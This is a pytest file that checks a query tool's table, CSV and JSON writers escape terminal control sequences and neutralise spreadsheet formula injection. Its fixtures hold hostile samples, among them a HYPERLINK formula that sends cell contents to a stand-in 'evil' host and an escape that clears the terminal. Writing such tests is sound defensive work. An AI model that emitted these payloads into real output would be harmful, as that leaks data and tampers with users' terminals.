"""Hostile captions through `pixelrefer query`'s writers: terminal escapes in `table`, formulas in `csv`.

Captions, answers, labels and URIs are text a model or a user wrote; printed raw, ``ESC [ 2J``
clears the user's terminal and ``=HYPERLINK(...)`` runs when the CSV is opened in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import json

import pyarrow as pa
import pytest

from jobs.query_formats import WRITERS, spreadsheet_safe, terminal_safe, write_csv, write_table, write_video

ANSI = "\x1b[2J\x1b[31mred\x1b[0m"
OSC = "\x1b]8;;http://evil.example/\x07click\x1b]8;;\x07"
C1 = "\x9b31mcsi\x85"
BIDI = "abc\u202etxt.exe\u2066x\u2069"
CONTROLS = "bell\x07back\x08space\rcr\x7fdel\u2028sep"
FORMULAS = ["=HYPERLINK(\"http://evil/?\"&A1)", "+1+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "\uff1dcmd"]


def table(**columns: list) -> pa.Table:
    return pa.table(columns)


def rendered(writer, data: pa.Table) -> str:
    out = io.StringIO()
    writer(data, out)
    return out.getvalue()


def assert_no_controls(text: str) -> None:
    bad = [c for c in text if (ord(c) < 0x20 and c != "\n") or 0x7F <= ord(c) < 0xA0
           or c in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u2028\u2029"]  # fmt: skip
    assert not bad, bad


@pytest.mark.parametrize("value", [ANSI, OSC, C1, BIDI, CONTROLS])
def test_table_shows_control_characters_as_escapes(value: str) -> None:
    text = rendered(write_table, table(caption=[value], label=["dog"]))
    assert_no_controls(text)
    assert terminal_safe(value) in text


def test_table_escapes_are_readable_and_newlines_become_spaces() -> None:
    assert terminal_safe(ANSI) == "\\x1b[2J\\x1b[31mred\\x1b[0m"
    assert terminal_safe(BIDI) == "abc\\u202etxt.exe\\u2066x\\u2069"
    assert terminal_safe("two\nlines\tand a tab") == "two lines and a tab"
    assert terminal_safe("ordinary caption: a dog, ½ café 🐕") == "ordinary caption: a dog, ½ café 🐕"


def test_table_escapes_column_names_and_nested_values() -> None:
    data = pa.table({f"k{ANSI}": [1], "obj": [{f"key{C1}": f"v{OSC}"}], "tags": [[BIDI]]})
    text = rendered(write_table, data)
    assert_no_controls(text)
    assert "k\\x1b[2J" in text and "key\\u009b31mcsi" in text  # nested values are JSON text


def test_table_columns_stay_aligned_with_escapes() -> None:
    text = rendered(write_table, table(caption=[ANSI, "plain"], n=[1, 22]))
    header, rule, first, second, _ = text.splitlines()
    assert len(first) == len(second) == len(rule)


def test_csv_prefixes_formula_text_with_a_quote() -> None:
    data = table(caption=FORMULAS + ["a dog", "", "it's = fine"], score=[-1.5] * 10, n=[-3] * 10)
    rows = list(csv.reader(io.StringIO(rendered(write_csv, data))))
    assert [r[0] for r in rows[1:]] == ["'" + f for f in FORMULAS] + ["a dog", "", "it's = fine"]
    # Real numbers from numeric columns stay numbers, negative or not.
    assert {r[1] for r in rows[1:]} == {"-1.5"} and {r[2] for r in rows[1:]} == {"-3"}


def test_csv_neutralises_headers_and_nested_values_stay_json() -> None:
    data = pa.table({"=cmd": ["x"], "tags": [["=1+1"]]})
    rows = list(csv.reader(io.StringIO(rendered(write_csv, data))))
    assert rows[0] == ["'=cmd", "tags"] and json.loads(rows[1][1]) == ["=1+1"]


def test_spreadsheet_safe_leaves_non_text_alone() -> None:
    assert spreadsheet_safe(-2.5) == -2.5 and spreadsheet_safe(-7) == -7 and spreadsheet_safe(None) is None
    assert spreadsheet_safe("-7") == "'-7"  # a text cell: a spreadsheet would still evaluate it


@pytest.mark.parametrize("fmt", ["json", "jsonl"])
def test_json_keeps_the_exact_values(fmt: str) -> None:
    values = [ANSI, OSC, C1, BIDI, CONTROLS, *FORMULAS]
    text = rendered(WRITERS[fmt], table(caption=values))
    parsed = json.loads(text) if fmt == "json" else [json.loads(line) for line in text.splitlines()]
    assert [r["caption"] for r in parsed] == values
    # Escaped, not removed: nothing in the text drives a terminal or splits a line, yet the values are exact.
    assert_no_controls(text)


def test_video_table_escapes_the_uri_and_captions() -> None:
    doc = {"video": {"video_id": "v1", "uri": f"s3://b/{ANSI}.mp4", "status": "ok", "model": f"m{OSC}"},
           "runs": [{"run_id": "r1", "status": "ok", "model": "m"},
                    {"run_id": f"r2{C1}", "status": "ok", "model": "m"}],
           "objects": [{"object_id": 1, "source": "auto", "label": f"dog{BIDI}", "first_ts": 0.0, "last_ts": 1.0,
                        "num_frames": 2, "clips": [0], "spans": [(0.0, 1.0)]}],
           "clips": [{"clip_index": 0, "ts_start": 0.0, "ts_end": 1.0, "boundary": "cut", "status": "ok",
                      "num_sampled": 2, "object_ids": [1], "error": None,
                      "captions": [{"ts_start": 0.0, "ts_end": 1.0, "object_id": 1, "caption": ANSI}],
                      "answers": []}],
           "captions": [], "qa": []}  # fmt: skip

    class Result:
        def to_dict(self) -> dict:
            return doc

    out = io.StringIO()
    write_video(Result(), "table", out)  # type: ignore[arg-type]
    assert_no_controls(out.getvalue())
    assert "\\x1b[2J" in out.getvalue() and "dog" in out.getvalue()
